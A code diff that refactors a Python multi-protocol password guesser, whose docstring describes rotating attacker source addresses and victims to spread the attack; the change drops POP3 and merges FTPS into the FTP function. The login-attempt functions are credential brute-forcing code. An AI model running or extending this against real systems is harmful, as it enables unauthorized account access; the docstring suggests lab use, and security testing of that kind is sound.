@@ -1,10 +1,8 @@
-"""A plain password guesser for ftp, pop3, imap, smtp (with TLS too), redis, mqtt, telnet, snmp, forms and basic authentication.
+"""A plain password guesser for ftp, imap, smtp (with TLS too), redis, mqtt, telnet, snmp, forms and basic authentication.
 
-Started as a file inside a namespace of the lab, so it imports nothing but the standard library. Sources (one or more addresses
-of the attacking host) take turns, and so do victims, which makes a spread or a distributed attack of it.
+Sources (one or more addresses of the attacking host) take turns, and so do victims, which makes a spread or a distributed attack
+of it.
 """
-
-from __future__ import annotations
 
 import argparse
 import base64
@@ -13,7 +11,6 @@ import ftplib
 import http.client
 import imaplib
 import itertools
-import poplib
 import random
 import smtplib
 import socket
@@ -22,6 +19,7 @@ import threading
 import time
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 KEPT = threading.local()
 """What a thread keeps between two tries: a connection, a socket."""
@@ -35,28 +33,16 @@ def _source(source: str | None) -> tuple[str, int] | None:
     return (source, 0) if source else None
 
 
-def ftp(host: str, port: int, user: str, password: str, source: str | None) -> None:
-    """USER and PASS."""
-    with ftplib.FTP(timeout=8) as made:  # noqa: S321 - guessing at a clear-text server is its purpose
+def ftp(host: str, port: int, user: str, password: str, source: str | None, *, tls: bool = False) -> None:
+    """USER and PASS, with `tls` behind AUTH TLS."""
+    with ftplib.FTP_TLS(timeout=8, context=TRUSTING) if tls else ftplib.FTP(timeout=8) as made:  # noqa: S321 - its purpose
         made.connect(host, port, source_address=_source(source))
         made.login(user, password)
 
 
-def ftps(host: str, port: int, user: str, password: str, source: str | None) -> None:
+def ftps(*asked: Any) -> None:
     """AUTH TLS, USER and PASS."""
-    with ftplib.FTP_TLS(timeout=8, context=TRUSTING) as made:  # noqa: S321 - as above
-        made.connect(host, port, source_address=_source(source))
-        made.login(user, password)
-
-
-def pop3(host: str, port: int, user: str, password: str, source: str | None) -> None:
-    """USER and PASS, as poplib sends them; poplib binds no source."""
-    made = poplib.POP3(host, port, timeout=8)
-    try:
-        made.user(user)
-        made.pass_(password)
-    finally:
-        made.close()
+    ftp(*asked, tls=True)
 
 
 def imap(host: str, port: int, user: str, password: str, source: str | None) -> None:
@@ -149,10 +135,9 @@ def basic(host: str, port: int, user: str, password: str, source: str | None) ->
     _asked(host, port, source, "GET", "/admin/", "", {"Authorization": f"Basic {coded}"})
 
 
-KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, ftps, pop3, imap, imaps, smtp, smtps, mqtt)}
+KINDS: dict[str, Try] = {made.__name__: made for made in (ftp, ftps, imap, imaps, smtp, smtps, mqtt)}
 KINDS |= {made.__name__: made for made in (redis, telnet, snmp, form, basic)}
-MAIL = (poplib.error_proto, imaplib.IMAP4.error, smtplib.SMTPException)
-REFUSED = (OSError, EOFError, ftplib.Error, http.client.HTTPException, *MAIL)
+REFUSED = (OSError, EOFError, ftplib.Error, http.client.HTTPException, imaplib.IMAP4.error, smtplib.SMTPException)
 
 
 def main() -> None:
